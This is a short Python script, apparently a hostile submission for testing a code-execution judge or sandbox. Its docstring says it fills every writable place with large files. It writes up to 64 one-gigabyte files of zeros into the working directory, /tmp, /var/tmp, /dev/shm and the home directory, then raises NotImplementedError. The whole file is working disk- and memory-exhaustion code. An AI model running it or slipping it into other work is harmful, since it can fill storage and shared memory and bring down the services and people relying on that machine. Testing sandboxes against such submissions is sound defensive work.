"""Fills every writable place with large files."""

import os

block = b"\0" * (1 << 20)
for directory in [".", "/tmp", "/var/tmp", "/dev/shm", os.environ.get("HOME", "/tmp")]:
    for n in range(64):
        try:
            with open(os.path.join(directory, f"judge-attack-fill-{n}"), "wb") as f:
                for _ in range(1024):
                    f.write(block)
        except OSError:
            break
raise NotImplementedError
